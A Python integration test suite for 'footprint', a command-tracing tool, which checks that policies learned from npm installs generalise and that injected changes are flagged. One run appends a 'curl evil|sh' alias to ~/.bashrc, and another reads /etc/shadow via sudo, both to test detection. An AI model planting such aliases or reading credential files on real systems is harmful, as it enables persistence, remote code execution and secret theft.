"""Policies that generalise on real caches (issue 31), as a user who is
not root types them, through the real sudo (sudo_user.py):

- three `npm install --offline` runs of one package set, each in a
  checkout of its own, from an npm cache the test fills once; `policy
  learn` gives a short policy of rules relative to the root (allow
  node_modules/) and one rule for the cache (~/.npm/_cacache/), which
  passes a fourth run in another checkout, while a fifth run that also
  appends to ~/.bashrc fails with exactly that finding, on the first line;
  `--absolute` keeps the old form, which fits one checkout only;
- a loop that made ol.0 ... ol.99990 gets one rule;
- `sudo -n true` is one privilege finding and no secret read (sudo reads
  its own /etc/shadow and /etc/sudoers), `sudo cat /etc/shadow` still
  reports cat's read, and its suggestion names cat.

The npm cache comes from the npm registry when this machine reaches it
(express and its dependencies); else from a local set of packages the
test makes with `npm pack` (FOOTPRINT_TEST_NPM=local: always that).
Either way every traced run is offline.

Run as root: FOOTPRINT=build/footprint FOOTPRINT_REQUIRE_BPF=1 \\
    python3 -m unittest -v tests/integration/test_policy_generalise.py
"""

import json
import os
import re
import shutil
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import fptest  # noqa: E402

import sudo_user  # noqa: E402
import sudo_util as su  # noqa: E402

NPM_FLAGS = "--offline --no-audit --no-fund --no-update-notifier"
LOCAL_PKGS = ("alpha", "beta", "gamma", "delta", "epsilon")
USER = None


def setUpModule():
    global USER
    su.check_binary()
    for tool in ("npm", "node", "sudo"):
        if not shutil.which(tool):
            su.cannot_test("%s is not installed; run scripts/install-deps"
                           % tool)
    USER = sudo_user.SudoUser("fppg")


def tearDownModule():
    if USER is not None:
        USER.close()


def expect(cond, msg):
    """An assertion for the class's set-up, which has no TestCase."""
    if not cond:
        raise AssertionError(msg)


def sh_q(s):
    return "'" + s.replace("'", "'\\''") + "'"


class Npm:
    """The package set and its cache, made once: a package.json to copy
    into each checkout, and ~/.npm filled so that --offline finds all."""

    def __init__(self):
        self.seed = os.path.join(USER.home, "seed")
        self.source = None

    def registry_reachable(self):
        if os.environ.get("FOOTPRINT_TEST_NPM") == "local":
            return False
        rc, _ = USER.sh("npm ping --registry https://registry.npmjs.org/ "
                        ">/dev/null 2>&1", timeout=60)
        return rc == 0

    def local_set(self):
        """Packages made with npm pack, each depending on the next."""
        deps = {}
        pkgs = os.path.join(USER.home, "pkgs")
        for i, name in enumerate(LOCAL_PKGS):
            d = os.path.join(pkgs, name)
            meta = {"name": "fp-" + name, "version": "1.0.%d" % i,
                    "main": "index.js"}
            if i + 1 < len(LOCAL_PKGS):
                nxt = LOCAL_PKGS[i + 1]
                meta["dependencies"] = {
                    "fp-" + nxt: "file:../%s/fp-%s-1.0.%d.tgz" % (
                        nxt, nxt, i + 1)}
            USER.write(os.path.join(d, "package.json"), json.dumps(meta))
            USER.write(os.path.join(d, "index.js"),
                       "module.exports = %r;\n" % name)
            for k in range(12):
                USER.write(os.path.join(d, "lib", "part%d.js" % k),
                           "module.exports = %d;\n" % k)
        for name in reversed(LOCAL_PKGS):
            rc, out = USER.sh("npm pack --silent >/dev/null",
                              cwd=os.path.join(pkgs, name))
            expect(rc == 0, out)
        for name in LOCAL_PKGS:
            i = LOCAL_PKGS.index(name)
            deps["fp-" + name] = "file:%s/%s/fp-%s-1.0.%d.tgz" % (
                pkgs, name, name, i)
        return deps

    def make(self):
        os.makedirs(self.seed, exist_ok=True)
        if self.registry_reachable():
            self.source = "registry"
            meta = {"name": "seed", "version": "1.0.0",
                    "dependencies": {"express": "4.21.2"}}
        else:
            self.source = "local"
            meta = {"name": "seed", "version": "1.0.0",
                    "dependencies": self.local_set()}
        USER.write(os.path.join(self.seed, "package.json"), json.dumps(meta))
        # the one install that fills the cache (online, when it can be)
        rc, out = USER.sh("npm install --no-audit --no-fund "
                          "--no-update-notifier >/dev/null", cwd=self.seed,
                          timeout=300)
        expect(rc == 0, "filling the npm cache: %s" % out)
        with open(os.path.join(self.seed, "package.json")) as f:
            self.package_json = f.read()


class PolicyGeneraliseTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.logs = os.path.join(USER.home, "logs")
        os.makedirs(cls.logs, exist_ok=True)
        os.chown(cls.logs, USER.pw.pw_uid, USER.pw.pw_gid)
        USER.write(os.path.join(USER.home, ".bashrc"), "# the user's\n")
        cls.npm = Npm()
        cls.npm.make()
        cls.runs = {}
        for n in range(1, 6):
            cls.runs[n] = cls.record(n)

    @classmethod
    def record(cls, n):
        """Run n: npm install --offline in a checkout of its own, traced
        and recorded; run 5 also appends to ~/.bashrc."""
        ck = os.path.join(USER.home, "checkout%d" % n)
        shutil.rmtree(ck, ignore_errors=True)
        USER.write(os.path.join(ck, "package.json"), cls.npm.package_json)
        log = os.path.join(cls.logs, "run%d.fplog" % n)
        job = "npm install %s >/dev/null 2>&1" % NPM_FLAGS
        if n == 5:
            job += " && echo 'alias ls=\"curl evil|sh\"' >> ~/.bashrc"
        rc, out = USER.sh("sudo footprint run -q --record %s -- sh -c %s"
                          % (sh_q(log), sh_q(job)), cwd=ck, timeout=300)
        # every run fails: there is no policy yet
        expect(rc == su.EXIT_VERDICT, "run %d: exit %d\n%s" % (n, rc, out))
        expect(su.owner_mode(log)[0] == USER.pw.pw_uid, log)
        return log

    def fp(self, *args):
        """footprint ARGS as the user, no sudo: (exit status, output)."""
        return USER.sh("footprint " + " ".join(sh_q(a) for a in args),
                       cwd=USER.home)

    def learn(self, *extra):
        out = os.path.join(USER.home, "learned%d.policy" % len(extra))
        if os.path.exists(out):
            os.unlink(out)
        rc, text = self.fp("policy", "learn", *extra, "-o", out,
                           self.runs[1], self.runs[2], self.runs[3])
        self.assertEqual(rc, su.EXIT_OK, text)
        with open(out) as f:
            return out, f.read()

    def rules(self, policy):
        return [ln.split("  #")[0] for ln in policy.splitlines()
                if ln and not ln.startswith("#")]

    def test_learned_policy_is_short_relative_and_passes_a_new_checkout(self):
        path, policy = self.learn()
        lines = policy.splitlines()
        self.assertLessEqual(len(lines), 40, policy)
        rules = self.rules(policy)
        # the checkouts are named by no rule: relative to each root
        for r in rules:
            self.assertNotIn("/checkout", r, policy)
        self.assertIn("allow node_modules/", rules, policy)
        self.assertIn("allow package-lock.json", rules, policy)
        # the npm cache is one rule
        cache = os.path.join(USER.home, ".npm", "_cacache") + "/"
        self.assertIn("allow " + cache, rules, policy)
        self.assertEqual([r for r in rules if "_cacache" in r],
                         ["allow " + cache], policy)
        # nothing of the home as a whole, nor of the shell's files
        for r in rules:
            self.assertNotEqual(r, "allow %s/" % USER.home, policy)
            self.assertNotIn(".bashrc", r, policy)
        rc, out = self.fp("policy", "check", path, self.runs[4])
        self.assertEqual(rc, su.EXIT_OK, out + policy)
        self.assertTrue(out.startswith("ok   "), out)

    def test_an_injected_change_is_the_one_finding_and_first(self):
        path, policy = self.learn()
        rc, out = self.fp("policy", "check", path, self.runs[5])
        self.assertEqual(rc, su.EXIT_VERDICT, out + policy)
        lines = out.splitlines()
        self.assertRegex(lines[0], r"^FAIL .*run5\.fplog \(1 failing "
                         r"finding\)$", out)
        bashrc = os.path.join(USER.home, ".bashrc")
        self.assertEqual(lines[1], "  %s: files.outside_roots: %s" %
                         (self.runs[5], bashrc), out)
        self.assertEqual(len(lines), 2, out)

    def test_absolute_keeps_the_old_form(self):
        path, policy = self.learn("--absolute")
        rules = self.rules(policy)
        self.assertTrue(any("/checkout1/node_modules/" in r for r in rules),
                        policy)
        self.assertNotIn("allow node_modules/", rules, policy)
        # which fits the checkouts it was learned in, not a fourth
        rc, out = self.fp("policy", "check", path, self.runs[4])
        self.assertEqual(rc, su.EXIT_VERDICT, out)
        rc, out = self.fp("policy", "check", path, self.runs[1])
        self.assertEqual(rc, su.EXIT_OK, out)

    def test_the_worst_finding_first_among_many(self):
        """Checked by a policy that allows the npm cache only, the fifth
        run fails on more files in the checkout than a verdict keeps
        reasons for (50), judged before ~/.bashrc: it is still first."""
        cache = os.path.join(USER.home, ".npm") + "/"
        partial = os.path.join(USER.home, "cache-only.policy")
        USER.write(partial, "allow %s\n" % cache)
        rc, out = self.fp("policy", "check", partial, self.runs[5])
        self.assertEqual(rc, su.EXIT_VERDICT, out)
        lines = out.splitlines()
        m = re.match(r"^FAIL .*\((\d+) failing findings\)$", lines[0])
        self.assertTrue(m and int(m.group(1)) > 51, out)
        self.assertEqual(lines[1], "  %s: files.outside_roots: %s" %
                         (self.runs[5], os.path.join(USER.home, ".bashrc")),
                         out)
        self.assertTrue(all(": files.added: " in ln or ln.endswith(
            "more failing findings") for ln in lines[2:]), out)


class ChurnTest(unittest.TestCase):
    def test_a_numbered_loop_is_one_rule(self):
        work = os.path.join(USER.home, "loop")
        shutil.rmtree(work, ignore_errors=True)
        scratch = os.path.join(USER.home, "scratch")
        shutil.rmtree(scratch, ignore_errors=True)
        USER.write(os.path.join(work, ".keep"), "")
        USER.write(os.path.join(scratch, ".keep"), "")
        log = os.path.join(USER.home, "loop.fplog")
        if os.path.exists(log):
            os.unlink(log)
        job = ('i=0; while [ $i -le 99990 ]; do : > %s/ol.$i; '
               'i=$((i + 10)); done' % sh_q(scratch))
        rc, out = USER.sh("sudo footprint run -q --record %s -- sh -c %s"
                          % (sh_q(log), sh_q(job)), cwd=work, timeout=600)
        self.assertEqual(rc, su.EXIT_VERDICT, out)
        rc, policy = USER.sh("footprint policy suggest " + sh_q(log),
                             cwd=USER.home)
        self.assertEqual(rc, su.EXIT_OK, policy)
        rules = [ln for ln in policy.splitlines()
                 if ln and not ln.startswith("#")]
        self.assertEqual(rules, ["allow %s/ol.[0-9]*  # covers 10000" %
                                 scratch], policy)


class SudoStepTest(unittest.TestCase):
    def run_sudo(self, cmd, name):
        work = os.path.join(USER.home, "sudo-step")
        USER.write(os.path.join(work, ".keep"), "")
        receipt = os.path.join(USER.home, name + ".json")
        if os.path.exists(receipt):
            os.unlink(receipt)
        rc, out = USER.sh("sudo footprint run --receipt %s -- %s" %
                          (sh_q(receipt), cmd), cwd=work)
        with open(receipt) as f:
            r = json.load(f)
        self.assertEqual(su.schema_errors(r), [])
        return rc, out, r

    def test_sudo_true_is_one_privilege_finding(self):
        rc, out, r = self.run_sudo("sudo -n true", "sudo-true")
        self.assertEqual(rc, su.EXIT_VERDICT, out)
        sudo = os.path.realpath(shutil.which("sudo"))
        secrets = [x for x in r["files"].get("read", []) if x.get("secret")]
        self.assertEqual(secrets, [], out)
        self.assertEqual([p["exe"] for p in r["processes"]["privileged"]],
                         [sudo], out)
        self.assertEqual(r["reasons"],
                         ["processes.privileged: pid %d %s" %
                          (r["processes"]["privileged"][0]["pid"], sudo)],
                         out)
        self.assertEqual(fptest.rules(r), ["allow privileged " + sudo])

    def test_sudo_cat_shadow_reports_cat(self):
        rc, out, r = self.run_sudo("sudo -n cat /etc/shadow >/dev/null",
                                   "sudo-cat")
        self.assertEqual(rc, su.EXIT_VERDICT, out)
        reads = [(x["path"], x["by"]["exe"]) for x in r["files"]["read"]
                 if x.get("secret")]
        cat = os.path.realpath(shutil.which("cat"))
        self.assertEqual(reads, [("/etc/shadow", cat)], out)
        self.assertIn("allow read /etc/shadow by " + cat, fptest.rules(r))
        self.assertNotIn("allow read /etc/shadow", fptest.rules(r))
        # the reasons, worst first, as policy check prints them
        self.assertEqual(len(r["processes"]["privileged"]), 1, out)


if __name__ == "__main__":
    unittest.main()
